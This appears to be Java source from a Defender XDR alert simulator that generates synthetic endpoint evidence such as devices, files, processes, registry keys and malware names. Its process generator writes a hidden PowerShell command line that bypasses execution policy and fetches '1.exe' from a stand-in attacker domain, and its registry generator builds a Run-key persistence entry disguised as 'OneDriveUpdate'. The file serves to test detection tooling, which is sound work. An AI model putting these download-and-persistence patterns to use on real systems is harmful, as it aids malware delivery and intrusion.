package io.defenderxdr.simulator.attack;

import io.defenderxdr.simulator.time.Ticks;
import java.util.List;
import java.util.Map;

/** Evidence from computers: devices, files, processes, the registry. */
final class EndpointEvidence {
  static final Map<String, Evidence.Kind> KINDS =
      Map.of(
          "device", EndpointEvidence::device,
          "file", EndpointEvidence::file,
          "fileHash", EndpointEvidence::fileHash,
          "process", EndpointEvidence::process,
          "registryKey", EndpointEvidence::registryKey,
          "registryValue", EndpointEvidence::registryValue,
          "malware", EndpointEvidence::malware);

  private static final List<String> IMAGES =
      List.of("powershell.exe", "cmd.exe", "WINWORD.EXE", "rundll32.exe", "invoice.exe");

  private EndpointEvidence() {}

  private static void device(Pen pen, Stage stage) {
    Dice dice = stage.dice();
    World.Device device = stage.device();
    World.User user = stage.user();
    boolean cloud = dice.percent(30);
    boolean domain = dice.percent(70);
    pen.moment("firstSeenDateTime", stage.moment() - Ticks.PER_SECOND * 86_400L * 40);
    pen.text("mdeDeviceId", device.mdeId());
    pen.text("azureAdDeviceId", device.aadId());
    pen.text("deviceDnsName", device.name() + "." + stage.world().domain());
    pen.text("hostName", device.name());
    pen.text("ntDomain", domain ? "CONTOSO" : null);
    pen.text("dnsDomain", domain ? stage.world().domain() : null);
    pen.text("osPlatform", device.platform());
    pen.number("osBuild", device.windows() ? 22_631 : 23);
    pen.text("version", device.windows() ? "23H2" : "14.5");
    pen.text("healthStatus", dice.pick(List.of("active", "inactive", "noSensorData")));
    pen.text("riskScore", dice.pick(List.of("none", "low", "medium", "high")));
    pen.number("rbacGroupId", dice.below(90));
    pen.text("rbacGroupName", domain ? "UnassignedGroup" : null);
    pen.text("onboardingStatus", "onboarded");
    pen.text("defenderAvStatus", dice.pick(List.of("updated", "notUpdated", "notSupported")));
    pen.text("lastIpAddress", device.ip());
    pen.text("lastExternalIpAddress", "203.0.113." + (1 + dice.below(250)));
    pen.texts("ipInterfaces", List.of(device.ip(), "fe80::cfe4:80b:615c:38fb", "127.0.0.1", "::1"));
    virtualMachine(pen, stage, cloud);
    pen.objects("loggedOnUsers", List.of(user), each -> loggedOn(pen, each));
    pen.objects("resourceAccessEvents", cloud ? List.of(user) : List.of(), u -> access(pen, stage));
  }

  private static void virtualMachine(Pen pen, Stage stage, boolean cloud) {
    if (!cloud) {
      pen.none("vmMetadata");
      return;
    }
    String id = stage.dice().guid();
    pen.object(
        "vmMetadata",
        () ->
            pen.text("vmId", id)
                .text("cloudProvider", "azure")
                .text("resourceId", stage.resourceGroup() + "/virtualMachines/" + id)
                .text("subscriptionId", id));
  }

  private static void loggedOn(Pen pen, World.User user) {
    pen.text("accountName", user.account()).text("domainName", "CONTOSO");
  }

  /** An access to a resource, as devices and users list them. */
  static void access(Pen pen, Stage stage) {
    pen.moment("accessDateTime", stage.moment());
    pen.text("accountId", stage.user().id());
    pen.text("ipAddress", stage.device().ip());
    pen.text("resourceIdentifier", "cifs/" + stage.device().name());
  }

  private static void file(Pen pen, Stage stage) {
    boolean detected = stage.dice().percent(80);
    pen.text("detectionStatus", detected ? "detected" : "prevented");
    pen.text("mdeDeviceId", stage.device().mdeId());
    String name =
        stage.dice().pick(List.of("invoice.docm", "setup.exe", "update.js", "Q3 plan.xlsx"));
    pen.object("fileDetails", () -> details(pen, stage, name, "Downloads"));
  }

  private static void details(Pen pen, Stage stage, String name, String folder) {
    Dice dice = stage.dice();
    World.Device device = stage.device();
    String home = stage.user().account();
    boolean signed = dice.percent(40);
    pen.text("sha1", dice.hex(40)).text("sha256", dice.hex(64)).text("md5", dice.hex(32));
    pen.text("sha256Ac", signed ? dice.hex(64) : null);
    pen.text("fileName", name);
    pen.text(
        "filePath",
        device.windows() ? "C:\\Users\\" + home + "\\" + folder : "/home/" + home + "/" + folder);
    pen.number("fileSize", 1_024 + dice.below(5_000_000));
    pen.text("filePublisher", signed ? "Microsoft Corporation" : null);
    pen.text("signer", signed ? "Microsoft Windows" : null);
    pen.text("issuer", signed ? "Microsoft Windows Production PCA 2011" : null);
  }

  private static void fileHash(Pen pen, Stage stage) {
    pen.text("algorithm", "sha256").text("value", stage.dice().hex(64));
  }

  private static void process(Pen pen, Stage stage) {
    Dice dice = stage.dice();
    long started = stage.moment();
    String image = dice.pick(IMAGES);
    pen.number("processId", 1000 + dice.below(30_000));
    pen.number("parentProcessId", 500 + dice.below(9_000));
    pen.text(
        "processCommandLine",
        image
            + " -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "
            + dice.hex(96)
            + " 'http://"
            + stage.attackerDomain()
            + "/1.exe'");
    pen.moment("processCreationDateTime", started);
    pen.moment("parentProcessCreationDateTime", started - dice.below(Ticks.PER_SECOND * 600));
    pen.text("detectionStatus", dice.pick(List.of("detected", "blocked", "prevented")));
    pen.text("mdeDeviceId", stage.device().mdeId());
    pen.object("imageFile", () -> details(pen, stage, image, "AppData"));
    pen.object("parentProcessImageFile", () -> details(pen, stage, "explorer.exe", "Windows"));
    pen.object("userAccount", () -> IdentityEvidence.account(pen, stage));
  }

  private static void registryKey(Pen pen, Stage stage) {
    pen.text("registryHive", "HKEY_CURRENT_USER");
    pen.text(
        "registryKey", stage.user().sid() + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
  }

  private static void registryValue(Pen pen, Stage stage) {
    pen.text("mdeDeviceId", stage.device().mdeId());
    registryKey(pen, stage);
    pen.text("registryValue", "\"C:\\Users\\Public\\" + stage.dice().hex(8) + ".exe\" /s");
    pen.text("registryValueName", "OneDriveUpdate");
    pen.text("registryValueType", "String");
  }

  private static void malware(Pen pen, Stage stage) {
    pen.text(
        "name", "Trojan:Win32/" + stage.dice().pick(List.of("Emotet", "LockBit", "CoinMiner")));
    pen.text("category", "trojan");
    Evidence.nestedList(pen, stage, "files", "file");
    if (stage.dice().percent(25)) {
      Evidence.nestedList(pen, stage, "processes", "process");
    } else {
      pen.texts("processes", List.of());
    }
  }
}
